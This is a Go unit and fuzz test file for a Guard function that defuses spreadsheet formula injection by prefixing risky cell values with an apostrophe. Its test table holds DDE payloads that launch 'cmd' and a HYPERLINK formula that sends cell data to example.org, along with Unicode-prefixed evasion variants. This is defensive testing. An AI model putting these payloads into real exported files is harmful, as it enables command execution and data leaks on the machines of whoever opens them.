package report

import (
	"strings"
	"testing"
	"unicode"

	"paiza"
)

func TestGuard(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"heroin", "heroin"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://example.org?x="&A1,"open")`, `'=HYPERLINK("http://example.org?x="&A1,"open")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1", "'\t=1"}, {"\r=1", "'\r=1"}, {"\n=1", "'\n=1"}, {"\tword", "'\tword"},
		{"＝1+1", "'＝1+1"}, {"＋1a", "'＋1a"}, {"－1a", "'－1a"}, {"＠SUM(1)", "'＠SUM(1)"},
		{" =1+1", "' =1+1"}, {"\u00A0=1", "'\u00A0=1"}, {"\u200B=1", "'\u200B=1"}, {"\x00=1", "'\x00=1"}, {"\uFEFF=1", "'\uFEFF=1"},
		{"-5", "-5"}, {"+7.5", "+7.5"}, {"-1e3", "-1e3"}, {"-", "'-"}, {"-5 kg", "'-5 kg"},
		{"'=1", "''=1"}, {"''=1", "'''=1"}, {"'word", "'word"}, {"'-5", "''-5"},
		{"a=1", "a=1"}, {"10 - 5", "10 - 5"}, {"#REF!", "#REF!"},
	} {
		if got := Guard(tc.in); got != tc.want {
			t.Errorf("Guard(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// FuzzGuard: what leaves the guard begins no formula, and one apostrophe taken
// away gives the text back.
func FuzzGuard(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "-5", "\t", "＝", " \u200B@x", "\xff=1", "''+a"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Guard(s)
		if got != s && got != "'"+s {
			t.Fatalf("Guard(%q) = %q", s, got)
		}
		if (got != s) != risky(got) {
			t.Fatalf("%q and %q cannot be told apart", s, got)
		}
		if _, ok := paiza.ParseDecimal(got); ok {
			return
		}
		first := strings.TrimLeftFunc(got, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) })
		if first != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(first)[0]) {
			t.Fatalf("Guard(%q) = %q may be a formula", s, got)
		}
	})
}
